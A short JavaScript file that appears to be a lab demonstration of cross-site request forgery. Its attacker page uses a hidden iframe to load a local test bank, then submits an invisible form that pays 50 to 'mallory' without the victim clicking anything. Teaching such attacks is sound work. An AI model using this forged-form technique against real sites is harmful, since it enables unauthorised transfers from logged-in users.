// The page of an attacker. Alice has it open while she is logged in at her bank.
const bank = 'http://localhost:8080';

main();

async function main() {
  await open(`${bank}/login`); // what Alice does in another tab
  await open(`${bank}/form`);
  setTimeout(forge, 500);
}

// A form that nobody sees, sent by nobody's click.
function forge() {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = `${bank}/pay`;
  form.target = 'hidden';
  form.innerHTML = '<input name="to" value="mallory"><input name="amount" value="50">';
  form.hidden = true;
  document.body.append(form);
  form.submit();
  console.log('forged');
}

function open(address) {
  const frame = document.createElement('iframe');
  frame.name = 'hidden';
  frame.src = address;
  document.body.append(frame);
  return new Promise((loaded) => (frame.onload = loaded));
}
